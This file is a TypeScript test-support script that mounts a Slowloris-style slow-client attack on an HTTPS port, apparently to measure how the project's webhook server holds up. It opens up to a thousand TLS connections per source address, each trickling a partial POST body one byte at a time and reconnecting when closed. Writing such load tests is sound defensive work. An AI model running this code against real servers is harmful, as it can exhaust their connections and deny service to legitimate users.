/**
 * A slow-client attack on an HTTPS port, run as its own process so that its work
 * does not stall the test that measures the victim: from each source address,
 * `--per-address` TLS connections each send `POST /validate` with
 * `Content-Length: 1000` and then one byte every `--byte-every-ms`; a connection
 * the server closes is opened again after `--reconnect-ms`, so the attack keeps
 * its numbers for as long as it runs. Prints one JSON line a second:
 * `{ open, opened, closed }` (open: past the TLS handshake now).
 *
 * node test/support/slow-clients.ts --port 9443 --addresses 127.0.0.1,127.0.0.2 --per-address 1000
 */
import { connect as tcpConnect } from 'node:net';
import { connect, type TLSSocket } from 'node:tls';
import { parseArgs } from 'node:util';

const { values } = parseArgs({
  options: {
    port: { type: 'string' },
    host: { type: 'string', default: '127.0.0.1' },
    addresses: { type: 'string', default: '127.0.0.1,127.0.0.2' },
    'per-address': { type: 'string', default: '1000' },
    'byte-every-ms': { type: 'string', default: '3000' },
    'reconnect-ms': { type: 'string', default: '1000' },
  },
});
const port = Number(values.port);
const perAddress = Number(values['per-address']);
const byteEveryMs = Number(values['byte-every-ms']);
const reconnectMs = Number(values['reconnect-ms']);
const addresses = (values.addresses ?? '').split(',').filter(Boolean);
if (!Number.isInteger(port) || port <= 0 || addresses.length === 0) {
  process.stderr.write('usage: slow-clients.ts --port PORT [--addresses A,B] [--per-address N]\n');
  process.exit(2);
}

const HEAD =
  'POST /validate HTTP/1.1\r\nHost: webhook\r\nContent-Type: application/json\r\n' +
  'Content-Length: 1000\r\n\r\n{';
let open = 0;
let opened = 0;
let closed = 0;

function slowClient(localAddress: string): void {
  let socket: TLSSocket;
  let secured = false;
  let timer: NodeJS.Timeout | undefined;
  try {
    const tcp = tcpConnect({ host: values.host, port, localAddress });
    tcp.on('error', () => undefined);
    socket = connect({ socket: tcp, rejectUnauthorized: false });
  } catch {
    setTimeout(() => slowClient(localAddress), reconnectMs);
    return;
  }
  socket.on('secureConnect', () => {
    secured = true;
    open++;
    opened++;
    socket.write(HEAD);
    timer = setInterval(() => socket.write('x'), byteEveryMs);
  });
  socket.on('error', () => undefined);
  socket.resume();
  socket.on('close', () => {
    if (timer) clearInterval(timer);
    if (secured) open--;
    closed++;
    setTimeout(() => slowClient(localAddress), reconnectMs);
  });
}

// Open the connections in waves, as fast as a client machine would, not all in one tick.
let started = 0;
const wave = setInterval(() => {
  for (let i = 0; i < 50 && started < perAddress * addresses.length; i++, started++)
    slowClient(addresses[started % addresses.length] as string);
  if (started >= perAddress * addresses.length) clearInterval(wave);
}, 20);
setInterval(() => process.stdout.write(`${JSON.stringify({ open, opened, closed })}\n`), 1000);
